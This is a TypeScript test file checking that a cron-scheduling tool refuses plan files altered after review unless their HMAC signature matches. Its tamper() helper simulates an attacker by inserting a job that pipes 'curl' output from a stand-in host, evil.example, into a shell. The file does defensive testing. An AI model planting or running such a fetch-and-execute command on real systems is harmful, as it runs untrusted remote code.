/**
 * Attack review of 2026-12-01: a plan file edited between review and `apply plan.json`, with its
 * digests and id recomputed, was applied. With CRONFORM_PLAN_KEY set where plans are written and
 * applied, the file carries an HMAC of the whole plan and apply refuses any other.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { digestOf } from '../../../src/compile/digest.js';
import { computePlanId } from '../../../src/plan/plan-id.js';
import { PLAN_KEY_ENV } from '../../../src/plan/plan-signature.js';
import type { Plan } from '../../../src/plan/plan-types.js';
import { PlanTrustWorkspace, schedule } from './plan-trust-workspace.js';

const DAILY = '  cron: "0 3 * * *"\n  timezone: UTC\n  job: { type: command, command: [node, jobs/sync.js] }\n';
const KEY = 'k'.repeat(16) + 'e'.repeat(16) + 'y';

/** What the attacker does: a new job in the plan, every digest and the id recomputed. */
function tamper(file: string): void {
  const plan = JSON.parse(readFileSync(file, 'utf8')) as Plan & { signature?: string };
  const change = plan.changes[0]!;
  change.after = { ...change.after!, job: { type: 'command', command: ['sh', '-c', 'curl -s https://evil.example/x | sh'], cwd: '.', env: {} } };
  change.afterDigest = digestOf(change.after);
  const { planId: _id, createdAt: _at, signature: _sig, ...content } = plan;
  plan.planId = computePlanId(content);
  writeFileSync(file, JSON.stringify(plan, null, 2));
}

describe('attack 9: a plan file edited after review', () => {
  let workspace: PlanTrustWorkspace;
  const saved = process.env[PLAN_KEY_ENV];
  beforeEach(async () => {
    workspace = await PlanTrustWorkspace.create();
    workspace.write('sync.yaml', schedule('sync', DAILY));
  }, 60_000);
  afterEach(() => {
    workspace.remove();
    if (saved === undefined) delete process.env[PLAN_KEY_ENV];
    else process.env[PLAN_KEY_ENV] = saved;
  });

  it('is refused when the key is set, while the untouched signed file applies', async () => {
    process.env[PLAN_KEY_ENV] = KEY;
    const file = workspace.path('plan.json');
    expect((await workspace.plan(['--out', file])).exitCode).toBe(0);
    expect(JSON.parse(readFileSync(file, 'utf8')).signature).toMatch(/^hmac-sha256:[0-9a-f]{64}$/);
    const untouched = readFileSync(file, 'utf8');
    tamper(file);
    const edited = await workspace.applyFile(file);
    expect(edited.exitCode).toBe(1);
    expect(edited.message).toContain("the plan file's signature does not match its content under CRONFORM_PLAN_KEY");
    // Signed under another key: refused too.
    process.env[PLAN_KEY_ENV] = `${KEY}-other`;
    writeFileSync(file, untouched);
    expect((await workspace.applyFile(file)).exitCode).toBe(1);
    process.env[PLAN_KEY_ENV] = KEY;
    const applied = await workspace.applyFile(file);
    expect(applied.exitCode, applied.message).toBe(0);
    expect(applied.stdout).toContain('Applied plan');
  }, 60_000);

  it('an unsigned file is refused where the key is set; without a key it applies as before', async () => {
    const file = workspace.path('plan.json');
    delete process.env[PLAN_KEY_ENV];
    expect((await workspace.plan(['--out', file])).exitCode).toBe(0);
    expect(JSON.parse(readFileSync(file, 'utf8')).signature).toBeUndefined();
    process.env[PLAN_KEY_ENV] = KEY;
    const refused = await workspace.applyFile(file);
    expect(refused.exitCode).toBe(1);
    expect(refused.message).toContain('the plan file is not signed, and CRONFORM_PLAN_KEY is set here');
    delete process.env[PLAN_KEY_ENV];
    expect((await workspace.applyFile(file)).exitCode).toBe(0);
  }, 60_000);

  it('refuses a key too short to be a secret', async () => {
    process.env[PLAN_KEY_ENV] = 'short';
    const result = await workspace.plan(['--out', workspace.path('plan.json')]);
    expect(result.exitCode).toBe(1);
    expect(result.message).toContain('CRONFORM_PLAN_KEY must be at least 32 characters');
  }, 60_000);
});
